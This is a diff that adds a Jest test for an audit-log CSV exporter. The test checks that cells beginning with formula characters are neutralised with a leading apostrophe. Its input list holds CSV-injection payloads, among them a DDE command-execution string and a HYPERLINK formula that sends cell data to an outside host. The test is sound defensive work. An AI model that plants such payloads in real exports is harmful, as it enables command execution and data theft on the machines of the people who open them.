@@ -29,6 +29,23 @@ test.each([
   )
 })
 
+test('60 texts that begin a formula begin none in any column', () => {
+  const formulas = ['=', '+', '-', '@', '\t', '\r', '＝', '＋', '－', '＠'].flatMap((first) =>
+    ["cmd|' /C calc'!A0", 'HYPERLINK("http://x?"&A1)', '1+1,=2', '', '\n=1', '"'].map((rest) => first + rest),
+  )
+  const entries = formulas.map((text) => ({
+    ...{ id: text, at: text, action: text, target: text, address: text },
+    actor: { kind: text as 'key', id: text, name: text },
+  }))
+  const cell = /(?:"((?:[^"]|"")*)"|([^",\r\n]*))(?:,|\r\n)/g
+  const cells = [...writeAudit(entries).matchAll(cell)].map(
+    ([, quoted, plain]) => quoted?.replaceAll('""', '"') ?? plain,
+  )
+  const [first, ...rest] = [cells.slice(0, 7), ...formulas.map((_, row) => cells.slice(7 * row + 7, 7 * row + 14))]
+  expect(first).toContain('actorName')
+  expect(rest).toEqual(formulas.map((text) => Array.from({ length: 7 }, () => `'${text}`)))
+})
+
 test('both days of a span are in it, from their first moment to their last', () => {
   const { from, to } = readSearch({ from: '2026-02-27', to: '2026-02-28' })
   expect(from).toBe(new Date(2026, 1, 27).toISOString())
